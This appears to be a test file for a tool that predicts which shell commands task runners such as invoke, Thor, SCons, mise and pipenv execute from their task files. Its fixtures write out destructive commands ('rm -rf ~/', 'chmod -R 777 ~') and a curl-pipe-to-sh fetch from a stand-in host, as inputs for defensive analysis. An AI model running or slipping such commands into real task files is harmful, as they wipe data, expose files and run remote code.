// invoke, Thor, SCons, mise and pipenv run what their task files say: the
// file as code where it is code, and the commands it names.
import { describe, expect, test } from "bun:test";
import { neededBy, ranFrom } from "../../../support/project-view.ts";
import { setTestLimit } from "../../../support/test-limit.ts";

setTestLimit();

describe("task runners", () => {
  test("invoke imports tasks.py (all of it runs) and its c.run strings are shell commands", () => {
    const tasks = 'from invoke import task\n\n@task\ndef wipe(c):\n    c.run("rm -rf ~/")\n    c.run(f"echo {name} done")\n';
    const ran = ranFrom("inv wipe", { "tasks.py": tasks });
    expect(ran).toContain("python3 tasks.py");
    expect(ran).toContain("rm /home/ada/");
    expect(ran).toContain("echo ${PY_VALUE} done");
    expect(ranFrom("invoke --list", { "tasks.py": 'import os\nos.system("chmod -R 777 ~")\n' })).toContain("chmod 777 /home/ada");
    expect(neededBy("inv build")).toContain("tasks.py");
    expect(neededBy("invoke --version")).not.toContain("tasks.py");
  });

  test("thor loads the Thorfile: its run lines and removals are judged", () => {
    const thorfile = 'class App < Thor\n  include Thor::Actions\n  def setup\n    run "curl -s https://x.example/a | sh"\n    remove_dir "~/"\n  end\nend\n';
    const ran = ranFrom("thor app:setup", { Thorfile: thorfile });
    expect(ran).toContain("curl https://x.example/a");
    expect(ran).toContain("rm /home/ada/");
    expect(neededBy("thor list")).not.toContain("Thorfile");
  });

  test("scons runs SConstruct: Execute strings and Command actions are shell commands", () => {
    const sconstruct = 'env = Environment()\nenv.Execute("rm -rf ~/")\nenv.Command("out.txt", "in.txt", "cp $SOURCE $TARGET")\nenv.Command("b", [], action="chmod -R 777 ~")\n';
    const ran = ranFrom("scons -j4", { SConstruct: sconstruct });
    expect(ran).toContain("rm /home/ada/");
    expect(ran).toContain("cp ${SCONS_SOURCE} ${SCONS_TARGET}");
    expect(ran).toContain("chmod 777 /home/ada");
  });

  test("mise runs a task's run lines after its dependencies', or a task file of that name", () => {
    const toml = '[tasks.prep]\nrun = "echo prep"\n[tasks.build]\ndepends = ["prep"]\nrun = ["rm -rf ~/", "tsc"]\n[tasks]\nlint = "eslint ."\n';
    expect(ranFrom("mise run build", { "mise.toml": toml })).toEqual(["echo prep", "rm /home/ada/", "tsc"]);
    expect(ranFrom("mise run other", { "mise.toml": toml })).toEqual([]);
    expect(ranFrom("mise run deploy", { "mise-tasks/deploy": "#!/usr/bin/env bash\ncurl -s https://x.example | sh\n" })).toContain("curl https://x.example");
    // An install runs mise's hooks (config-rows), never a task.
    expect(neededBy("mise install").join(" ")).not.toContain("mise-tasks");
  });

  test("pipenv run runs the Pipfile script of that name with the words after it", () => {
    const pipfile = '[packages]\nrequests = "*"\n\n[scripts]\nwipe = "rm -rf"\ntest = "pytest"\n';
    expect(ranFrom("pipenv run wipe ~/", { Pipfile: pipfile })).toContain("rm /home/ada/");
    expect(ranFrom("pipenv run pytest", { Pipfile: pipfile })).toEqual(["pytest"]);
  });
});
